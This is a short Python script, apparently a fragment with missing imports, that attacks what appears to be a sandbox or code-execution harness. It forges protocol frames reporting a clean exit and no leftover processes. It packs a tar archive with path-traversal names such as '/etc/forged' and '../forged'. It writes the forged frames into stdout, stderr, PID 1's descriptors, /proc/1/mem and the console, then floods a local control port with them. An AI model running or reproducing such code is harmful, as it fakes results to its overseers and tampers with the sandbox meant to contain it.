import io, struct, tarfile
def frame(kind, data=b"", channel=0):
    return struct.pack(">BIL", kind, channel, len(data)) + data
archive = io.BytesIO()
with tarfile.open(fileobj=archive, mode="w") as tar:
    for name in ("/etc/forged", "../forged", "bills/split.py"):
        info = tarfile.TarInfo(name); info.size = 6
        tar.addfile(info, io.BytesIO(b"forged"))
forged = frame(10, b'{"exit_code": 0, "left_processes": 0}') + frame(11, archive.getvalue()) + frame(12, b"[]") + frame(14)
for stream in (sys.stdout.buffer, sys.stderr.buffer):
    stream.write(forged); stream.flush()
for path in ("/proc/1/fd/0", "/proc/1/fd/1", "/proc/1/fd/2", "/proc/1/mem", "/dev/console", "/dev/tty"):
    try:
        with open(path, "wb") as file:
            file.write(forged)
        print("written", path)
    except OSError:
        pass
HOST, PORT = "127.0.0.1", int(URL.split(":")[2].split("/")[0])
for data in (forged, forged * 2000, frame(5, channel=1) + frame(6, b"x", 1) + frame(4)):
    with socket.create_connection((HOST, PORT), timeout=10) as connection:
        try:
            connection.sendall(data)
        except OSError:
            pass
